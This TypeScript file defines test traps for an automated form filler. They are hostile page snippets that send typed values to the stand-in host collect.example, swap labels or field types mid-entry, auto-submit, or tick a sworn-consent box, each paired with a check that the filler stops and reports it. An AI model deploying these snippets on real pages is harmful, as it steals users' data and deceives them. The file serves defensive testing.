import { fields, honest, type Seen, type Trap } from './trap';

const { name, mail, link } = fields;
const script = (what: string) => `<script>${what}</script>`;

const elsewhere = (how: string, html: string): Trap => ({
  name: `a form that sends to another host ${how}`,
  html: html + mail,
  told: 'told and not filled',
  fault({ values, steps, sendsElsewhere = '' }) {
    if (!/^collect\.example$|^(?:mailto|javascript|data):$|google/.test(sendsElsewhere))
      return `told ${sendsElsewhere || 'nothing'}`;
    if (values['a'] !== '') return `got ${values['a']}`;
    if (values['b'] !== honest.email) return 'the field outside of that form was not filled';
    return steps.includes('elsewhere') ? undefined : 'no step says so';
  },
});

const sendingElsewhere: readonly Trap[] = [
  elsewhere('by its action', `<form action="https://collect.example/in">${name}</form>`),
  elsewhere('without a scheme', `<form action="//collect.example/in">${name}</form>`),
  elsewhere('by the base of the page', `<base href="https://collect.example/"><form action="in">${name}</form>`),
  elsewhere(
    'by a button',
    `<form action="/ok">${name}<button formaction="https://collect.example/in">送信</button></form>`,
  ),
  elsewhere(
    'by a button outside',
    `<form id="f">${name}</form><input type="submit" form="f" formaction="//collect.example">`,
  ),
  elsewhere(
    'by the form that a field names',
    `<form id="f" action="//collect.example"></form>${name.replace('name="a"', 'form="f"')}`,
  ),
  elsewhere(
    'under a field named action',
    `<form action="//collect.example">${name}<input type="hidden" name="action" value="/ok"></form>`,
  ),
  elsewhere(
    'under a field named getAttribute',
    `<form action="//collect.example">${name}<input type="hidden" name="getAttribute"></form>`,
  ),
  elsewhere('without encryption', `<form action="http://OFFICIAL/">${name}</form>`),
  elsewhere('by script', `<form action="javascript:void(location='https://collect.example/?'+a.value)">${name}</form>`),
  elsewhere('by a page of data', `<form action="data:text/html,<script>1</script>">${name}</form>`),
  elsewhere('by mail', `<form action="mailto:in@collect.example">${name}</form>`),
];

/** Held from the first tick after the plan, and by the focus that comes before the value. */
const moments = {
  'as it is entered': (act: string) => `a.addEventListener('focus', () => { ${act} }, { once: true })`,
  'at the press': (act: string) => `addEventListener('click', () => { ${act} }, { capture: true, once: true })`,
};

const exchanges: readonly (readonly [what: string, html: string, act: string])[] = [
  ['its label', `<p><label id="l" for="a">氏名</label><input id="a"></p>`, "l.textContent='電話番号'"],
  ['one letter of its label', `<p><label id="l" for="a">氏名</label><input id="a"></p>`, "l.firstChild.data='年齢'"],
  [
    'the head of its row',
    `<table><tr><th id="l">氏名</th><td><input id="a"></td></tr></table>`,
    "l.textContent='秘密の質問'",
  ],
  ['its type', `<p><label>氏名 <input id="a"></label></p>`, "a.type='password'"],
  ['the action of its form', `<form id="f">${name}</form>`, "f.action='https://collect.example/'"],
];

const exchanged: readonly Trap[] = exchanges.flatMap(([what, html, act]) =>
  Object.entries(moments).map(([when, listen]) => ({
    name: `a field that exchanges ${what} ${when}`,
    html: html + script(listen(act)),
    told: 'gets nothing',
    fault: ({ given }: Seen) => (given.length > 0 ? `got ${given.join(' ')}` : undefined),
  })),
);

const stops = (what: string, html: string, why: string, empty: readonly string[], given?: readonly number[]): Trap => ({
  name: what,
  html,
  told: `ends the filling: ${why}, and names what was written`,
  fault({ stopped, values, asked }) {
    if (stopped?.why !== why) return `stopped: ${stopped?.why ?? 'no'}`;
    if (given && stopped.given.join() !== given.join()) return `named ${stopped.given.join()}`;
    const got = empty.filter((id) => values[id] !== '');
    if (got.length > 0) return `wrote on into ${got.join()}`;
    // What goes into a frame cannot be held: it goes empty
    return asked.some((url) => url.includes('/sent') && (url.includes('=') || !what.includes('into a frame')))
      ? 'sent'
      : undefined;
  },
});

const sending = (how: string, act: string, why: string): Trap =>
  stops(
    `a form that sends as it is written, ${how}`,
    `<iframe name="sink" hidden></iframe><form id="f" action="/sent">${name}${mail}${link}<button id="go" hidden>送信</button></form>${script(`f.addEventListener('input', () => { ${act} });`)}`,
    why,
    ['b', 'c'],
  );

/** Sends a moment after the last field, as a debounced handler does. */
const sendingLater = (how: string, act: string, why: string): Trap => ({
  name: `a form that sends a moment after the last field, ${how}`,
  html: `<form id="f" action="/sent">${name}${mail}${link}</form>${script(`let t; f.addEventListener('input', () => { clearTimeout(t); t = setTimeout(() => { ${act} }, 300); });`)}`,
  told: 'the form is held back, and that is said',
  fault: ({ stopped }) => (stopped?.why === why ? undefined : `stopped: ${stopped?.why ?? 'no'}`),
});

/** Goes to another site by itself, so and so many ms after the last field. */
const leading = (how: string, wait: number, act: string): Trap => ({
  name: `a form that goes to another site by itself, ${how}`,
  html: `<form id="f" action="/sent">${name}${mail}${link}</form>${script(`let t; const to = () => 'https://collect.example/?n=' + encodeURIComponent(a.value); f.addEventListener('input', () => { clearTimeout(t); t = setTimeout(() => { ${act} }, ${wait}); });`)}`,
  waits: 1_500,
  told: 'the page is held back, and whither it was to go is said',
  fault({ stopped, asked }) {
    if (asked.some((url) => url.includes('collect.example'))) return 'went there';
    if (stopped?.why !== 'led' || stopped.to !== 'collect.example') return `stopped: ${stopped?.why} ${stopped?.to}`;
    return stopped.given.length === 3 ? undefined : `named ${stopped.given.join()}`;
  },
});

/** Runs as soon as the guide is there, before anybody has pressed anything. */
const onceGuided = (act: string) =>
  script(
    `new MutationObserver((_, all) => { if (document.querySelector('banken-test')) { all.disconnect(); ${act} } }).observe(document.body, { childList: true });`,
  );

const besideForms = {
  'public comments': `<form action="/comment"><h2>コメントを投稿（公開）</h2>${name}<button>送信</button></form>`,
  'comments, told by its button': `<form action="/comment">${name}<button>コメントを投稿する</button></form>`,
  'a guest book': `<form action="/board"><h2>みんなの掲示板（公開）</h2>${name}<p><label>本文 <textarea></textarea></label></p><button>公開する</button></form>`,
  news: `<form action="/news"><h2>メールマガジン登録</h2>${name}<button>登録</button></form>`,
  'an account': `<form action="/in"><h2>ログイン</h2>${name}<input type="password"></form>`,
  'a public chat': `<div role="dialog" aria-label="チャット"><h2>チャットで質問（公開）</h2>${name}</div>`,
};

const besides: readonly Trap[] = Object.entries(besideForms).map(([what, html]) => ({
  name: `a form of ${what} beside the report`,
  html: `${html}<form action="/ok">${mail}${link}</form>`,
  told: 'left empty, and the report filled',
  fault({ values }) {
    if (values['a'] !== '') return `got ${values['a']}`;
    return values['b'] === honest.email ? undefined : 'the report was not filled';
  },
}));

/** Forms on the official host that exchange, send or lead away what is written. */
export const actingTraps: readonly Trap[] = [
  ...sendingElsewhere,
  ...exchanged,
  {
    name: 'a field that exchanges itself by its like as it is entered',
    html: `<p><label>氏名 <input id="a"></label></p>${script(moments['as it is entered']('a.replaceWith(a.cloneNode())'))}`,
    told: 'gets nothing',
    fault: ({ given }) => (given.length > 0 ? `got ${given.join(' ')}` : undefined),
  },
  stops(
    'a label that is exchanged once something was written',
    `${name}<p><label id="l" for="b">メールアドレス</label><input id="b"></p>${link}${script("a.addEventListener('input', () => { l.textContent = '電話番号'; });")}`,
    'changed',
    ['b', 'c'],
  ),
  stops(
    'a field that is exchanged once it was written',
    `${name}${mail}${script("a.addEventListener('input', () => a.replaceWith(a.cloneNode()));")}`,
    'changed',
    ['b'],
  ),
  {
    name: 'a cover that comes as a field is entered',
    html: `<div id="w" style="position:relative">${name}</div>${script(`a.addEventListener('focus', () => {
      w.insertAdjacentHTML('beforeend', '<div style="position:absolute;inset:-9px;background:#fff"></div>'); });`)}`,
    told: 'gets nothing',
    fault: ({ values }) => (values['a'] === '' ? undefined : `got ${values['a']}`),
  },
  ...besides,
  {
    name: 'a page that gives itself another address before the press',
    html: `${name}${mail}${onceGuided("history.pushState({}, '', '/another-form')")}`,
    told: 'nothing is filled at the first press, and why',
    fault: ({ values, stopped }) =>
      Object.values(values).some((value) => value !== '') || stopped?.why !== 'moved'
        ? `stopped: ${stopped?.why}`
        : undefined,
  },
  {
    name: 'a page that sends each value to another site by an address',
    html: `${name}${mail}${link}${script("addEventListener('input', ({ target }) => { new Image().src = 'https://collect.example/p?v=' + encodeURIComponent(target.value); }, true)")}`,
    told: 'the filling ends, and the site is named',
    fault: ({ stopped, calls }) =>
      stopped?.why === 'called' && calls?.includes('collect.example')
        ? undefined
        : `stopped: ${stopped?.why}, named ${calls?.join()}`,
  },
  stops(
    'a field that a style hides as soon as something stands in it',
    `<style>#a:not(:placeholder-shown){opacity:0;position:absolute;left:-900px}</style>${name.replace('<input', '<input placeholder=" "')}${mail}${link}`,
    'changed',
    ['b', 'c'],
    [1],
  ),
  {
    name: 'a page that writes another value over ours a little later',
    html: `${name}${mail}${script("a.addEventListener('input',()=>setTimeout(()=>{a.value='無実 花子'},250))")}`,
    told: 'that the page has changed it, and what was written',
    fault: ({ stopped }) => (stopped?.why === 'changed' ? undefined : `stopped: ${stopped?.why ?? 'no'}`),
  },
  {
    name: 'a page that ticks a consent after our press',
    html: `${name}<p><label><input type="checkbox" id="k">偽証の罰の下で真実と誓います</label></p>${mail}${script("a.addEventListener('input',()=>{k.checked=true})")}`,
    told: 'that the page has changed it',
    fault: ({ stopped }) => (stopped?.why === 'changed' ? undefined : `stopped: ${stopped?.why ?? 'no'}`),
  },
  sending('as a press of its button would', 'f.requestSubmit()', 'submitted'),
  sending('without an event', 'f.submit()', 'submitted'),
  sending('into a frame', "f.target='sink';f.submit()", 'submitted'),
  sending(
    'into a frame by a method of another realm',
    "f.target='sink';document.querySelector('iframe').contentWindow.HTMLFormElement.prototype.submit.call(f)",
    'submitted',
  ),
  sending('with data', "f.method='post';f.submit()", 'submitted'),
  sending('by a press of a hidden button', 'go.click()', 'submitted'),
  sendingLater('as a press of its button would', 'f.requestSubmit()', 'submitted'),
  sendingLater('without an event', 'f.submit()', 'submitted'),
  sendingLater('by an address', "history.pushState({}, '', '?q=' + a.value)", 'left'),
  leading('a moment after the last field', 330, 'location.assign(to())'),
  leading('a second after the last field', 1_000, 'location.assign(to())'),
  leading(
    'by a refresh of its head',
    330,
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + to() }))",
  ),
  leading('by a link that it presses', 330, "Object.assign(document.createElement('a'), { href: to() }).click()"),
  { ...sendingLater('a second later', 'setTimeout(() => f.requestSubmit(), 700)', 'submitted'), waits: 1_500 },
  sending('by an address', "history.pushState({}, '', '?q=' + a.value)", 'left'),
  sending('by a fragment', 'location.hash = a.value', 'left'),
];
